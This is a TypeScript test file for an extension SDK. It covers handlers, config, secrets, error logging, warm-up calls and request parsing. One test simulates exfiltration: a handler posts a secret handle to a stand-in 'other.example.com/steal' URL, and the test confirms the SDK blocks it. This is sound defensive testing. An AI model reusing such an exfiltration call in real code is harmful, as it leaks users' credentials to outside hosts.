import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createHandler, json, SecretError, type HttpError } from './index.ts';
import { createMockHost } from './testing.ts';
import { answerWarmUp, installHost, WARM_UP_HEADER } from './host.ts';
import { describeError } from './handler.ts';

test('a handler reads context, config and a secret and answers JSON', async () => {
  const host = createMockHost({
    config: { greeting: 'hi' },
    secrets: { api_token: 'tok' },
    context: { tenantId: 't-1' },
  });
  const handler = createHandler(async (request, ctx) =>
    json({
      path: request.path,
      q: request.query.get('x'),
      tenant: ctx.context.tenantId,
      greeting: ctx.config.get('greeting'),
      len: (await ctx.secrets.get('api_token')).length,
    }),
  );
  const response = await host.invoke(handler, { path: '/hello?x=1' });
  assert.equal(response.status, 200);
  assert.equal(response.headers['content-type'], 'application/json; charset=utf-8');
  assert.deepEqual(response.json(), { path: '/hello', q: '1', tenant: 't-1', greeting: 'hi', len: 3 });
});

test('an unset secret rejects with code "missing" and a hint', async () => {
  const host = createMockHost();
  let caught: unknown;
  await host.invoke(
    createHandler(async (_request, ctx) => {
      try {
        await ctx.secrets.get('api_token');
      } catch (error) {
        caught = error;
      }
      return json({});
    }),
  );
  assert.ok(caught instanceof SecretError);
  assert.equal(caught.code, 'missing');
  assert.match(caught.message, /alga secrets set/);
});

test('a denied secret rejects with code "denied"', async () => {
  const host = createMockHost({ secrets: { api_token: 'x' }, denySecrets: true });
  const response = await host.invoke(
    createHandler(async (_r, ctx) =>
      json({ code: await ctx.secrets.get('api_token').catch((e: SecretError) => e.code) }),
    ),
  );
  assert.deepEqual(response.json(), { code: 'denied' });
});

test('an uncaught error becomes a 500 and an error log line, not a trap', async () => {
  const host = createMockHost();
  const response = await host.invoke(
    createHandler(() => {
      throw new Error('boom');
    }),
  );
  assert.equal(response.status, 500);
  assert.deepEqual(response.json(), { error: 'internal_error' });
  assert.equal(host.logs[0]?.level, 'error');
  assert.match(host.logs[0]!.message, /boom/);
});

test("an uncaught error's log line names the error and its message when the stack lists only frames", async () => {
  // SpiderMonkey (the built component's runtime) writes stacks without the "Name: message" line V8 puts first.
  const host = createMockHost();
  const error = new TypeError('upstream said no');
  error.stack = 'handler@dist/.alga-build/bundle.js:611:9\nserve@dist/.alga-build/bundle.js:90:3\n';
  await host.invoke(
    createHandler(() => {
      throw error;
    }),
  );
  assert.equal(
    host.logs[0]?.message,
    'Unhandled error: TypeError: upstream said no\nhandler@dist/.alga-build/bundle.js:611:9\nserve@dist/.alga-build/bundle.js:90:3',
  );
});

test('describeError: a V8 stack as it is, a thrown non-Error as text or JSON', () => {
  const v8 = new Error('boom');
  assert.equal(describeError(v8), v8.stack);
  assert.equal(describeError('plain text'), 'plain text');
  assert.equal(describeError({ code: 42 }), '{"code":42}');
  assert.equal(describeError(undefined), 'undefined');
  const cyclic: Record<string, unknown> = {};
  cyclic.self = cyclic;
  assert.equal(describeError(cyclic), '[object Object]');
  const bare = new RangeError();
  bare.stack = '';
  assert.equal(describeError(bare), 'RangeError');
});

test('an out-of-range status is refused', async () => {
  const host = createMockHost();
  await assert.rejects(host.invoke(createHandler(() => ({ status: 42 }))), /200 to 599/);
  await assert.rejects(host.invoke(createHandler(() => ({ status: 101 }))), /200 to 599/);
});

test("the runner's warm-up call takes the SDK's request path without running the extension", async () => {
  const host = createMockHost({ secrets: { api_token: 'tok' } });
  let ran = 0;
  const handler = createHandler(async () => {
    ran++;
    return json({});
  });
  const response = await host.invoke((request) => answerWarmUp(handler, request));
  assert.equal(ran, 0, 'the extension did not run');
  assert.equal(response.status, 204);
  assert.equal(response.headers[WARM_UP_HEADER], 'done');
  // It exercised the host like a request: a secret read (of a key no extension uses) and a log line.
  assert.deepEqual(
    host.logs.map((line) => line.message),
    ['warm-up'],
  );
  // Then the same handler serves requests as before.
  assert.equal((await host.invoke(handler)).status, 200);
  assert.equal(ran, 1);
});

test('a handler not made by createHandler is answered at warm-up without being called', async () => {
  const host = createMockHost();
  let ran = 0;
  const plain = () => {
    ran++;
    return { status: 200, headers: [], body: undefined };
  };
  const response = await host.invoke((request) => answerWarmUp(plain, request));
  assert.equal(ran, 0);
  assert.equal(response.status, 204);
  assert.equal(response.headers[WARM_UP_HEADER], 'done');
});

test("takes the request's ids from the request record, asking the host only when it lacks the install id", async () => {
  let asked = 0;
  installHost({
    context: {
      getContext: () => {
        asked++;
        return { tenantId: 't-host', extensionId: 'e-1', installId: 'i-host', requestId: 'r-1' };
      },
    },
  });
  const handler = createHandler(async (_request, ctx) => json({ ...ctx.context }));
  const request = (installId?: string) => ({
    context: { tenantId: 't-1', extensionId: 'e-1', requestId: 'r-1', ...(installId ? { installId } : {}) },
    http: { method: 'GET', url: '/', headers: [], body: undefined },
  });
  const decode = (response: { body?: Uint8Array }) => JSON.parse(new TextDecoder().decode(response.body)) as object;
  assert.deepEqual(decode(await handler(request('i-1'))), {
    tenantId: 't-1',
    extensionId: 'e-1',
    requestId: 'r-1',
    installId: 'i-1',
  });
  assert.equal(asked, 0, 'the record had every id: no host call');
  assert.deepEqual(decode(await handler(request())), {
    tenantId: 't-host',
    extensionId: 'e-1',
    requestId: 'r-1',
    installId: 'i-host',
  });
  assert.equal(asked, 1);
});

test('a secret with egress hosts: get says to use a handle, the handle reaches only those hosts as the value, echoes are masked', async () => {
  const host = createMockHost({
    manifest: {
      capabilities: ['cap:secrets.get', 'cap:http.fetch'],
      allowedHosts: ['api.example.com', 'other.example.com'],
      settings: [{ key: 'api_token', secret: true, egress: ['api.example.com'] }],
    },
    secrets: { api_token: 'tok-VALUE' },
    http: { 'https://api.example.com/me': (request) => ({ body: `you sent ${request.headers['authorization']}` }) },
  });
  const seen: Record<string, unknown> = {};
  await host.invoke(
    createHandler(async (_request, ctx) => {
      try {
        await ctx.secrets.get('api_token');
      } catch (error) {
        seen.get = (error as SecretError).code;
      }
      const token = await ctx.secrets.handle('api_token');
      seen.handle = token;
      seen.echo = (
        await ctx.http.fetch('https://api.example.com/me', { headers: { authorization: `Bearer ${token}` } })
      ).text();
      try {
        await ctx.http.fetch('https://other.example.com/steal', { body: token });
      } catch (error) {
        seen.outside = [(error as HttpError).code, (error as HttpError).secret];
      }
      return json({});
    }),
  );
  assert.equal(seen.get, 'handle-required');
  assert.match(String(seen.handle), /^alga-secret-handle:[A-Za-z0-9_-]{43}$/);
  assert.equal(host.requests[0]!.headers['authorization'], 'Bearer tok-VALUE', 'the host received the value');
  assert.equal(seen.echo, 'you sent Bearer [REDACTED]');
  assert.deepEqual(seen.outside, ['secret-not-allowed', 'api_token']);
  assert.equal(host.requests.length, 1, 'nothing went to the other host');
});

test('each request gets its own config view; the stateless members are shared and frozen', async () => {
  const seen: { config: unknown; secrets: unknown; log: unknown }[] = [];
  const handler = createHandler(async (_request, ctx) => {
    seen.push({ config: ctx.config, secrets: ctx.secrets, log: ctx.log });
    return json({ greeting: ctx.config.get('greeting') });
  });
  const first = await createMockHost({ config: { greeting: 'one' } }).invoke(handler);
  const second = await createMockHost({ config: { greeting: 'two' } }).invoke(handler);
  assert.deepEqual([first.json(), second.json()], [{ greeting: 'one' }, { greeting: 'two' }]);
  assert.notEqual(seen[0]!.config, seen[1]!.config);
  assert.equal(seen[0]!.secrets, seen[1]!.secrets);
  assert.ok(Object.isFrozen(seen[0]!.secrets) && Object.isFrozen(seen[0]!.log));
  assert.throws(() => {
    (seen[0]!.log as { info: unknown }).info = () => {};
  }, TypeError);
});

test('the query is parsed when first read, and a handler may replace it', async () => {
  const handler = createHandler(async (request) => {
    const before = request.query.get('a');
    request.query = new URLSearchParams('a=2');
    return json({ before, after: request.query.get('a'), spread: String({ ...request }.query) });
  });
  const response = await createMockHost().invoke(handler, { path: '/x?a=1' });
  assert.deepEqual(response.json(), { before: '1', after: '2', spread: 'a=2' });
});

test('an empty request body reads as no body: text() is empty and json() is null', async () => {
  const handler = createHandler(async (request) => json({ text: request.text(), json: request.json() }));
  const response = await createMockHost().invoke(handler, { method: 'POST', path: '/x', body: new Uint8Array(0) });
  assert.deepEqual(response.json(), { text: '', json: null });
});
